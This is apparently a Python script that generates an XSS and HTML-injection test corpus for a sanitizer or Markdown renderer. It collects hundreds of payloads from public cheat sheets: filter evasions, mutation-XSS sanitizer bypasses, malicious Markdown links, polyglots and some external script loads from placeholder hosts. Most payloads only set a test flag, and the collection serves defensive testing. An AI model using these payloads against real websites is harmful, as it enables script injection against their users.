#!/usr/bin/env python3
"""Writes tests/xss/payloads.jsonl, the XSS / HTML-injection corpus (see SOURCES.md).

    python3 tests/xss/generate.py          # rewrites payloads.jsonl next to this file

The JSON Lines file is what the tests read; this script only documents how the
encoded variants were derived and keeps the numbering consistent. Each line is
{"id": N, "source": S, "class": C, "payload": P}. Every payload that could run
JavaScript sets a global flag instead of alerting: `window.__pwned=N` (or
`top.__pwned=N` where the code would run in a nested frame), N being the id,
so that a browser test can tell which payload ran. The `alert` class keeps the
classic `alert(1)` forms too (a browser test listens for dialogs).

Placeholders in the templates below: PWN -> window.__pwned=N, TOPPWN ->
top.__pwned=N. A template may also be a function of the id.
"""

import base64
import json
import pathlib
import urllib.parse

OUT = pathlib.Path(__file__).with_name("payloads.jsonl")


def pwn(n):
    return f"window.__pwned={n}"


def top(n):
    return f"top.__pwned={n}"


def dec(s, pad=0, semi=True):
    """Decimal character references: &#106; (or &#0000106 without semicolons)."""
    return "".join(f"&#{ord(c):0{pad}d}" + (";" if semi else "") for c in s)


def hexe(s, semi=True, upper=False):
    return "".join((f"&#x{ord(c):X}" if upper else f"&#x{ord(c):x}") + (";" if semi else "") for c in s)


def pct(s):
    return "".join(f"%{ord(c):02X}" for c in s)


def b64(s):
    return base64.b64encode(s.encode()).decode()


def svg_onload(js):
    return '<svg xmlns="http://www.w3.org/2000/svg" onload="' + js + '"/>'


# (source, class, template) — template: str with PWN/TOPPWN, or fn(n) -> str.
T = []


def add(source, klass, *templates):
    for t in templates:
        T.append((source, klass, t))


# --- OWASP XSS Filter Evasion Cheat Sheet -------------------------------------------------
add("owasp", "script",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<SCRIPT>PWN</SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT/SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>PWN;//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "</TITLE><SCRIPT>PWN;</SCRIPT>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">\" '' SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">'>\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT>PWN</SCRIPT>",
    "<IMG \"\"\"><SCRIPT>PWN</SCRIPT>\"\\>",
    "\\\";PWN;//",
    "</script><script>PWN;</script>",
    "<SCRIPT FOR=document EVENT=onreadystatechange>PWN</SCRIPT>",
    "<!--[if gte IE 4]><SCRIPT>PWN;</SCRIPT><![endif]-->",
    "<? echo('<SCR)';echo('IPT>PWN</SCRIPT>'); ?>",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT>PWN</SCRIPT>'\"-->",
)
add("owasp", "scheme",
    "<IMG SRC=\"javascript:PWN;\">",
    "<IMG SRC=javascript:PWN>",
    "<IMG SRC=JaVaScRiPt:PWN>",
    "<IMG SRC=`javascript:PWN`>",
    "<IMG SRC=javascript:eval(String.fromCharCode(119,105,110,100,111,119,46,95,95,112,119,110,101,100,61,49))>",
    "<IMG SRC=\"jav\tascript:PWN;\">",
    "<IMG SRC=\"jav&#x09;ascript:PWN;\">",
    "<IMG SRC=\"jav&#x0A;ascript:PWN;\">",
    "<IMG SRC=\"jav&#x0D;ascript:PWN;\">",
    "<IMG SRC=\" &#14;  javascript:PWN;\">",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:PWN;\">",
    "<BODY BACKGROUND=\"javascript:PWN\">",
    "<IMG DYNSRC=\"javascript:PWN\">",
    "<IMG LOWSRC=\"javascript:PWN\">",
    "<BGSOUND SRC=\"javascript:PWN;\">",
    "<BR SIZE=\"&{PWN}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:PWN;\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:PWN;\">",
    lambda n: f"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,{b64('<script>' + top(n) + '</script>')}\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:PWN;\">",
    "<IFRAME SRC=\"javascript:TOPPWN;\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"PWN\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:TOPPWN;\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:PWN\">",
    "<TABLE><TD BACKGROUND=\"javascript:PWN\">",
    "<BASE HREF=\"javascript:PWN;//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<A HREF=\"javascript:document.location='http://www.example.org/';PWN\">XSS</A>",
    "<A HREF=\"http://66.000146.0x7.147/\">XSS</A>",
    "<A HREF=\"//www.example.org/\">XSS</A>",
    "<A HREF=\"http://%77%77%77%2E%65%78%61%6D%70%6C%65%2E%6F%72%67\">XSS</A>",
)
add("owasp", "encoding",
    lambda n: f"<IMG SRC={dec('javascript:' + pwn(n))}>",
    lambda n: f"<IMG SRC={dec('javascript:' + pwn(n), pad=7, semi=False)}>",
    lambda n: f"<IMG SRC={hexe('javascript:' + pwn(n), semi=False)}>",
    lambda n: f"<img src=x onerror=\"{dec('javascript:' + pwn(n), pad=7, semi=False)}\">",
    "<IMG SRC=javascript:PWN>".replace("javascript", "&#x6A;avascript"),
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029\">",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-PWN;+ADw-/SCRIPT+AD4-",
)
add("owasp", "event-handler",
    "\\<a onmouseover=\"PWN\"\\>xxs link\\</a\\>",
    "<a onmouseover=PWN>xxs link</a>",
    "<IMG SRC=# onmouseover=\"PWN\">",
    "<IMG SRC= onmouseover=\"PWN\">",
    "<IMG onmouseover=\"PWN\">",
    "<IMG SRC=/ onerror=\"PWN\"></img>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=PWN>",
    "<BODY ONLOAD=PWN>",
    "<svg/onload=PWN>",
)
add("owasp", "style",
    "<STYLE>li {list-style-image: url(\"javascript:PWN\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.example/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.example/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:PWN';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(PWN)\">",
    "<STYLE TYPE=\"text/javascript\">PWN;</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:PWN\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:PWN\")}</STYLE>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<DIV STYLE=\"background-image: url(javascript:PWN)\">",
    "<DIV STYLE=\"width: expression(PWN);\">",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:PWN\"></B></I></XML><SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>PWN</SCRIPT>\"></BODY></HTML>",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>PWN</SCRIPT>\">",
)

# --- PortSwigger XSS cheat sheet: event handlers, tags and URL sinks -------------------------
add("portswigger", "event-handler",
    "<img src=x onerror=PWN>",
    "<img/src=x/onerror=PWN>",
    "<img src=x onerror=PWN//",
    "<img src=x\tonerror=PWN>",
    "<img src=x\nonerror=PWN>",
    "<img src=x onerror=\"&#x77;indow.__pwned=1\">",
    "<img src=x onerror=\"\\u0077indow.__pwned=1\">",
    "<image src=1 onerror=PWN>",
    "<body onpageshow=PWN>",
    "<body onhashchange=PWN><a href=#x>x</a>",
    "<body onresize=PWN>",
    "<body onfocus=PWN>",
    "<style onload=PWN></style>",
    "<iframe onload=PWN></iframe>",
    "<input autofocus onfocus=PWN>",
    "<input onblur=PWN autofocus><input autofocus>",
    "<textarea autofocus onfocus=PWN>x</textarea>",
    "<select autofocus onfocus=PWN></select>",
    "<keygen autofocus onfocus=PWN>",
    "<details open ontoggle=PWN>",
    "<marquee onstart=PWN>x</marquee>",
    "<video src=x onerror=PWN></video>",
    "<audio src=x onerror=PWN></audio>",
    "<video><source onerror=PWN></video>",
    "<video poster=javascript:PWN//></video>",
    "<object data=x onerror=PWN></object>",
    "<xss autofocus tabindex=1 onfocus=PWN></xss>",
    "<xss contenteditable autofocus onfocus=PWN>x</xss>",
    "<a id=x tabindex=1 onfocusin=PWN></a>",
    "<xss onclick=PWN style=display:block>click</xss>",
    "<xss onmouseover=PWN style=display:block>hover</xss>",
    "<div onmouseover=\"PWN\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\"></div>",
    "<xss style=\"animation-name:spin\" onanimationstart=PWN></xss>",
    "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationend=PWN></xss>",
    "<xss style=\"transition:outline 1s\" ontransitionend=PWN tabindex=1 id=x></xss>",
    "<dialog open onclose=PWN><form method=dialog><button>x</button></form></dialog>",
    "<p onmouseover=PWN>hover</p>",
    "<strong onclick=PWN>bold</strong>",
    "<em onmouseover=PWN>em</em>",
    "<code onmouseenter=PWN>code</code>",
    "<blockquote onpointerover=PWN>quote</blockquote>",
    "<ul onmouseover=PWN><li onclick=PWN>item</li></ul>",
    "<a href=\"https://example.org/\" onclick=PWN>link</a>",
    "<a href=\"mailto:a@example.org\" onmouseover=PWN>mail</a>",
    "<br onload=PWN>",
    "<pre onmouseover=PWN>pre</pre>",
    "<del onanimationstart=PWN style=\"animation:x\">del</del>",
)
add("portswigger", "svg",
    "<svg onload=PWN>",
    "<svg><animate onbegin=PWN attributeName=x dur=1s>",
    "<svg><set onbegin=PWN attributename=x>",
    "<svg><a><animate attributeName=href values=javascript:PWN /><text x=20 y=20>Click</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:PWN /><a id=x><text x=20 y=20>Click</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='PWN' /></svg>#x\" /></svg>",
    "<svg><script href=data:,PWN />",
    "<svg><script xlink:href=data:,PWN></script>",
    "<svg><script>PWN</script>",
    "<svg><script>&#x77;indow.__pwned=1</script></svg>",
    "<svg><a xlink:href=\"javascript:PWN\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=PWN></foreignObject></svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><g onload=\"PWN\"></g></svg>",
    "<svg><image href=x onerror=PWN /></svg>",
    "<svg><discard onbegin=PWN>",
)
add("portswigger", "math",
    "<math><maction actiontype=statusline xlink:href=javascript:PWN>Click</maction></math>",
    "<math href=\"javascript:PWN\">CLICKME</math>",
    "<math><a xlink:href=\"javascript:PWN\">click</a></math>",
    "<math><mtext><img src=x onerror=PWN></mtext></math>",
)
add("portswigger", "scheme",
    "<a href=\"javascript:PWN\">click</a>",
    "<a href=\"  javascript:PWN\">click</a>",
    "<a href=\"java&#x0A;script:PWN\">click</a>",
    "<a href=\"&#x6A;avascript:PWN\">click</a>",
    "<a href=\"javascript&colon;PWN\">click</a>",
    "<a href=\"javascript&#58;PWN\">click</a>",
    "<a href=\"jav&Tab;ascript:PWN\">click</a>",
    "<a href=\"&#1;javascript:PWN\">click</a>",
    "<a href=\"javascript://%0aPWN\">click</a>",
    "<a href=\"javascript:%77indow.__pwned=1\">click</a>",
    "<a href=\"JaVaScRiPt:PWN\">click</a>",
    "<a href=\"data:text/html,<script>TOPPWN</script>\">click</a>",
    lambda n: f"<a href=\"data:text/html;base64,{b64('<script>' + top(n) + '</script>')}\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "<form><button formaction=javascript:PWN>XSS</button></form>",
    "<form action=javascript:PWN><input type=submit></form>",
    "<isindex type=submit formaction=javascript:PWN>",
    "<input type=image src=x onerror=PWN>",
    "<iframe srcdoc=\"<img src=x onerror=TOPPWN>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=TOPPWN&gt;\"></iframe>",
    "<iframe src=\"data:text/html,%3Cscript%3ETOPPWN%3C/script%3E\"></iframe>",
    "<object data=\"javascript:TOPPWN\"></object>",
    lambda n: f"<object data=\"data:text/html;base64,{b64('<script>' + top(n) + '</script>')}\"></object>",
    "<embed src=\"javascript:TOPPWN\">",
    lambda n: f"<embed src=\"data:image/svg+xml;base64,{b64(svg_onload(top(n)))}\">",
    "<base href=\"javascript:/a/-PWN///////\"><a href=../lol/safari.html>test</a>",
    "<script src=data:,PWN></script>",
    "<script src=\"data:text/javascript,PWN\"></script>",
    "<link rel=import href=\"data:text/html,<script>TOPPWN</script>\">",
    "<a href=\"https://example.org/\" target=\"_blank\" rel=\"opener\">opener</a>",
)
add("portswigger", "dom-clobbering",
    "<a id=\"__pwned\" name=\"__pwned\" href=\"https://example.org/\">clobber</a>",
    "<form name=\"__pwned\"></form>",
    "<img name=\"__pwned\" src=\"x\">",
    "<p id=\"__pwned\">clobber</p>",
)

# --- html5sec.org ------------------------------------------------------------------------------
add("html5sec", "html5sec",
    "<form id=\"test\"></form><button form=\"test\" formaction=\"javascript:PWN\">X</button>",
    "<meta charset=\"x-imap4-modified-utf7\">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi",
    "<body onscroll=PWN><br><br><br><br><br><br>...<br><br><br><br><input autofocus>",
    "<div style=\"width:1px;filter:glow\" onfilterchange=\"PWN\">x</div>",
    "<frameset onload=PWN>",
    "<!--<img src=\"--><img src=x onerror=PWN//\">",
    "<comment><img src=\"</comment><img src=x onerror=PWN//\">",
    "<![><img src=\"]><img src=x onerror=PWN//\">",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=PWN//\"></svg>",
    "<style><img src=\"</style><img src=x onerror=PWN//\">",
    "<li style=list-style:url() onerror=PWN></li>",
    "<div style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=PWN></div>",
    "<head><base href=\"javascript://\"></head><body><a href=\"/. /,PWN//#\">XXX</a></body>",
    "<OBJECT CLASSID=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><PARAM NAME=\"DataURL\" VALUE=\"javascript:PWN\"></OBJECT>",
    "<b <script>PWN</script>0",
    "<div id=\"div1\"><input value=\"``onmouseover=PWN\"></div>",
    "<x '=\"foo\"><x foo='><img src=x onerror=PWN//'>",
    "<img src=\"javascript:PWN\">",
    "<img src=x onerror=\"javascript:PWN\">",
    "<xss:script xmlns:xss=\"http://www.w3.org/1999/xhtml\">PWN</xss:script>",
    "<a xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"javascript:PWN\"><rect width=\"1000\" height=\"1000\" fill=\"white\"/></a>",
    "<?xml-stylesheet type=\"text/css\"?><root style=\"x:expression(PWN)\"/>",
    "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;TOPPWN&lt;/script&gt;\"></iframe></foreignObject></svg>",
    "<iframe src=\"javascript:TOPPWN\"></iframe>",
    "<a href=\"javascript:void(0)\" onmouseover=PWN>x</a>",
    "<img[a][b]src=x[d]onerror[c]=[e]\"PWN\">",
    "<!-- up to Opera 11.52, FF 3.6.28 -->\n<![if<iframe/onload=PWN//]>",
    "<applet code=\"javascript:TOPPWN\"></applet>",
    "<x onload'=PWN>",
    "<script>PWN</script\t>",
    "<script\n>PWN</script>",
    "<img src=\"x` `<script>PWN</script>\"` `>",
    "<a style=\"-o-link:'javascript:PWN';-o-link-source:current\">X</a>",
    "<input onfocus=PWN autofocus>",
)

# --- mutation XSS: known sanitizer bypasses (DOMPurify, ammonia, bleach, Google Closure) ------
add("mxss", "namespace-confusion",
    "<noscript><p title=\"</noscript><img src=x onerror=PWN>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=PWN>\">",
    "<svg><p><style><a id=\"</style><img src=1 onerror=PWN>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=PWN&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWN>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=PWN>\"></style></h1>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror='PWN'>\">",
    "<svg><style><img src=x onerror=PWN></style></svg>",
    "<svg><style>&lt;img src=x onerror=PWN&gt;</style></svg>",
    "<math><style><img src=x onerror=PWN></style></math>",
    "<noscript><style></noscript><img src=x onerror=PWN>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=PWN></style></annotation-xml></math>",
    "<svg><foreignobject><p><style><p title=\"</style><iframe onload&#x3d;PWN>\">",
    "<svg></p><title><a id=\"</title><img src=x onerror=PWN>\">",
    "<svg><title><a id=\"</title><img src=x onerror=PWN>\"></a></title></svg>",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=PWN src=1>\">",
    "<div><svg><style><a title=\"</style><img src=x onerror=PWN>\">",
    "<table><tr><td><svg><style><a title=\"</style><img src=x onerror=PWN>\"></td></tr></table>",
    "<p><svg><style>*{font-family:'</style><img src=x onerror=PWN>'}</style></svg></p>",
    "<svg><iframe><a title=\"</iframe><img src=x onerror=PWN>\">",
    "<svg><desc><![CDATA[</desc><script>PWN</script>]]></svg>",
    "<svg><![CDATA[</svg><img src=x onerror=PWN>]]>",
    "<math><mi xlink:href=\"data:x,<script>PWN</script>\">",
    "<svg><a><foreignobject><a href=\"javascript:PWN\">x</a></foreignobject></a></svg>",
    "<math><mtext><table><mglyph><svg><mtext><style><path id=\"</style><img onerror=PWN src>\">",
    "<svg><mtext><style><a title=\"</style><img src=x onerror=PWN>\"></a></style></mtext></svg>",
)
add("mxss", "rawtext-breakout",
    "<textarea><p title=\"</textarea><img src=x onerror=PWN>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=PWN>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=PWN>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=PWN>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=PWN>\">",
    "<title><p title=\"</title><img src=x onerror=PWN>\">",
    "<style><p title=\"</style><img src=x onerror=PWN>\">",
    "<plaintext><img src=x onerror=PWN>",
    "<template><style></template><img src=x onerror=PWN></style>",
    "<template><img src=x onerror=PWN></template>",
    "<select><style><img title=\"</style><img src=x onerror=PWN>\"></select>",
    "<select><template><style><!--</style><a rel=\"--></template></select><img src=x onerror=PWN>\">",
    "<table><style><img title=\"</style><img src=x onerror=PWN>\"></table>",
    "<listing>&lt;img src=x onerror=PWN&gt;</listing>",
    "<p>&lt;img src=x onerror=PWN&gt;</p>",
    "<p title=\"&lt;/p&gt;&lt;img src=x onerror=PWN&gt;\">x</p>",
    "<noscript><img src=x onerror=PWN></noscript>",
    "<xmp><img src=x onerror=PWN></xmp>",
    "<a href=\"https://a.example/\"><a href=\"javascript:PWN\">x</a></a>",
)
add("mxss", "comment",
    "<!--><img src=x onerror=PWN>-->",
    "<!---><img src=x onerror=PWN>-->",
    "<!--!><img src=x onerror=PWN>-->",
    "<!-- --!><img src=x onerror=PWN> -->",
    "<?><img src=x onerror=PWN>",
    "</ x=><img src=x onerror=PWN>",
    "<!a=><img src=x onerror=PWN>",
    "<p>x<!--</p><img src=x onerror=PWN>--></p>",
)

# --- Markdown-specific ------------------------------------------------------------------------
add("markdown", "link-scheme",
    "[x](javascript:PWN)",
    "[x](JaVaScRiPt:PWN)",
    "[x](JAVASCRIPT:PWN)",
    "[x](javascript:PWN \"title\")",
    "[x](javascript:PWN 'title')",
    "[x](<javascript:PWN>)",
    "[x]( javascript:PWN )",
    "[x](\njavascript:PWN\n)",
    "[x](javascript://%0aPWN)",
    "[x](javascript://example.org/%0aPWN)",
    "[x](javascript:/**/PWN)",
    "[x](javascript:void(PWN))",
    "[x](javascript\\:PWN)",
    "[x](java\\script:PWN)",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:PWN)",
    "[x](livescript:PWN)",
    "[x](data:text/html,<script>TOPPWN</script>)",
    lambda n: f"[x](data:text/html;base64,{b64('<script>' + top(n) + '</script>')})",
    lambda n: f"[x](DATA:text/html;base64,{b64('<script>' + top(n) + '</script>')})",
    "[x](file:///etc/passwd)",
    "[x](ftp://example.org/)",
    "[x](//evil.example/)",
    "[x](/relative)",
    "[x](#fragment)",
    "[x](mailto:javascript:PWN)",
    "[x](https://javascript:PWN@example.org/)",
    "[x](https:javascript:PWN)",
    "[x](http:example.org)",
    "[x](ｊａｖａｓｃｒｉｐｔ:PWN)",
    "[x](java\u200bscript:PWN)",
    "[click](javascript:PWN) and [safe](https://example.org/)",
    "- [x](javascript:PWN)\n- [y](JavaScript:PWN)",
    "> [x](javascript:PWN)",
    "1. [x](javascript:PWN)",
    "**[x](javascript:PWN)**",
    "~~[x](javascript:PWN)~~",
)
add("markdown", "link-encoding",
    "[x](&#106;avascript:PWN)",
    "[x](&#x6A;avascript:PWN)",
    "[x](&#X6a;avascript:PWN)",
    "[x](&#0000106avascript:PWN)",
    "[x](&#106avascript:PWN)",
    lambda n: f"[x]({dec('javascript:')}{pwn(n)})",
    lambda n: f"[x]({hexe('javascript:', upper=True)}{pwn(n)})",
    "[x](%6Aavascript:PWN)",
    "[x](%6A%61vascript:PWN)",
    lambda n: f"[x]({pct('javascript:')}{pwn(n)})",
    "[x](javascript&#58;PWN)",
    "[x](javascript&colon;PWN)",
    "[x](javascript&#x3A;PWN)",
    "[x](javas&#99;ript:PWN)",
    "[x](javas%63ript:PWN)",
    "[x](java&#x09;script:PWN)",
    "[x](java&Tab;script:PWN)",
    "[x](java&NewLine;script:PWN)",
    "[x](java&#13;script:PWN)",
    "[x](&#32;javascript:PWN)",
    "[x](%20javascript:PWN)",
    "[x](&#x0;javascript:PWN)",
    "[x](&#1;javascript:PWN)",
)
add("markdown", "link-whitespace",
    "[x](java\tscript:PWN)",
    "[x](<java\tscript:PWN>)",
    "[x](<java script:PWN>)",
    "[x](java\nscript:PWN)",
    "[x](<java\nscript:PWN>)",
    "[x](\tjavascript:PWN)",
    "[x](java\rscript:PWN)",
    "[x](javascript\t:PWN)",
    "[x](javascript :PWN)",
)
add("markdown", "autolink",
    "<javascript:PWN>",
    "<JaVaScRiPt:PWN>",
    "<javascript:window.__pwned=1//@example.org>",
    "<vbscript:msgbox(1)>",
    "<data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+>",
    "<java&#115;cript:PWN>",
    "<&#106;avascript:PWN>",
    "<https://example.org/\"onmouseover=\"PWN>",
    "<https://example.org/'onmouseover='PWN>",
    "<mailto:a@example.org?subject=\"onmouseover=\"PWN>",
    "<a@example.org>",
    "<file:///etc/passwd>",
)
add("markdown", "reference-link",
    "[x][1]\n\n[1]: javascript:PWN",
    "[x]\n\n[x]: JaVaScRiPt:PWN",
    "[x][]\n\n[x]: <javascript:PWN>",
    "[x][1]\n\n[1]: &#106;avascript:PWN \"t\"",
    "[x][1]\n\n[1]: %6Aavascript:PWN",
    "[1]: javascript:PWN\n\n[x][1]",
    "[x][1]\n\n[1]:\njavascript:PWN",
    "![x][1]\n\n[1]: javascript:PWN",
    "[x]\n\n[x]: https://example.org/ '\"><img src=x onerror=PWN>'",
    "[x]\n\n[x]: https://example.org/ \"\\\" onmouseover=\\\"PWN\"",
    "[x][1]\n\n[1]: data:text/html,<script>TOPPWN</script>",
    "[x][1]\n\n[1]: vbscript:msgbox(1)",
)
add("markdown", "image",
    "![x](javascript:PWN)",
    "![x](x\" onerror=\"PWN)",
    "![x](https://example.org/x.png\"onerror=\"PWN)",
    "![x](https://example.org/x.png \"title\\\" onerror=\\\"PWN\")",
    "![x\" onerror=\"PWN](https://example.org/x.png)",
    "![<img src=x onerror=PWN>](x)",
    lambda n: f"![x](data:image/svg+xml;base64,{b64(svg_onload(top(n)))})",
    "[![x](https://example.org/x.png)](javascript:PWN)",
    "![x](https://example.org/x.png)",
)
add("markdown", "link-attribute-breakout",
    "[x](https://example.org/\"onmouseover=\"PWN)",
    "[x](https://example.org/'onmouseover='PWN)",
    "[x](https://example.org/ \"title\\\" onmouseover=\\\"PWN x=\\\"\")",
    "[x](mailto:x@example.org\"onmouseover=\"PWN)",
    "[x](https://example.org/?<script>PWN</script>)",
    "[x](https://example.org/#\"><img src=x onerror=PWN>)",
    "[<img src=x onerror=PWN>](https://example.org/)",
    "[<script>PWN</script>](https://example.org/)",
    "[x](https://example.org/)<img src=x onerror=PWN>",
    "<a href=\"[x](javascript:PWN)\">x</a>",
)
add("markdown", "raw-html",
    "<div>\n\n[x](javascript:PWN)\n\n</div>",
    "<details>\n<summary>x</summary>\n\n<img src=x onerror=PWN>\n</details>",
    "<script>\nPWN\n</script>",
    "<!--\n--><img src=x onerror=PWN>",
    "<?php echo 1; ?>\n<img src=x onerror=PWN>",
    "<!DOCTYPE html>\n<img src=x onerror=PWN>",
    "<![CDATA[\n]]><img src=x onerror=PWN>",
    "<table><tr><td onmouseover=PWN>cell</td></tr></table>",
    "<xss onmouseover=PWN>\nhover\n</xss>",
    "<p>[x](javascript:PWN)</p>",
    "<pre>\n<img src=x onerror=PWN>\n</pre>",
    "<style>\np{background:url(javascript:PWN)}\n</style>",
    "<textarea>\n</textarea><img src=x onerror=PWN>",
    "**<img src=x onerror=PWN>**",
    "*<svg onload=PWN>*",
    "~~<svg onload=PWN>~~",
    "> <script>PWN</script>",
    "- <img src=x onerror=PWN>",
    "# <img src=x onerror=PWN>",
    "<img src=x onerror=PWN>\n===",
    "| a |\n|---|\n| <img src=x onerror=PWN> |",
    "text<br onclick=PWN>more",
    "<a href=\"javascript:PWN\">x</a> in a paragraph",
)
add("markdown", "code",
    "`<img src=x onerror=PWN>`",
    "`</code><img src=x onerror=PWN>`",
    "``<script>PWN</script>``",
    "```html\n<script>PWN</script>\n```",
    "```\"><img src=x onerror=PWN>\n<b>x</b>\n```",
    "```javascript:PWN\ncode\n```",
    "    <script>PWN</script>",
    "~~~\n</pre><img src=x onerror=PWN>\n~~~",
    "`[x](javascript:PWN)`",
)
add("markdown", "escape",
    "\\<img src=x onerror=PWN>",
    "&lt;img src=x onerror=PWN&gt;",
    "&#60;img src=x onerror=PWN&#62;",
    "&#x3C;script&#x3E;PWN&#x3C;/script&#x3E;",
    "＜script＞PWN＜/script＞",
    "\\[x\\](javascript:PWN)",
    "<img src=x onerror=\\PWN>",
)

# --- polyglots and context breakers ------------------------------------------------------------
add("polyglot", "polyglot",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=PWN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=PWN//>\\x3e",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+PWN//'>",
    "'\"><img src=x onerror=PWN>",
    "\"><svg/onload=PWN>",
    "'--><svg onload=PWN>",
    "</textarea><script>PWN</script>",
    "</style><script>PWN</script>",
    "</noscript><img src=x onerror=PWN>",
    "]]><img src=x onerror=PWN>",
    "${PWN}",
    "{{constructor.constructor('PWN')()}}",
    "\\u003cimg src=x onerror=PWN\\u003e",
    "%3Cscript%3EPWN%3C/script%3E",
    "+ADw-script+AD4-PWN+ADw-/script+AD4-",
    "\"onmouseover=\"PWN",
    "' autofocus onfocus='PWN",
    "javascript:PWN",
    "JaVaScRiPt:PWN",
    "data:text/html,<script>TOPPWN</script>",
    "https://example.org/\"onmouseover=\"PWN",
    "https://example.org/'><svg/onload=PWN>",
    "https://example.org/#\"><img/src=x/onerror=PWN>",
    "https://example.org/?q=<script>PWN</script>",
    "http://javascript:PWN@example.org/",
    "https://example.org/javascript:PWN",
    "javascript://example.org/%0aPWN",
    "https:javascript:PWN",
    "http:example.org/\"><script>PWN</script>",
)

# --- classic alert forms, kept as well (a browser test listens for dialogs) --------------------
add("alert", "alert",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[x](javascript:alert(1))",
    "<a href=\"javascript:alert(document.domain)\">x</a>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
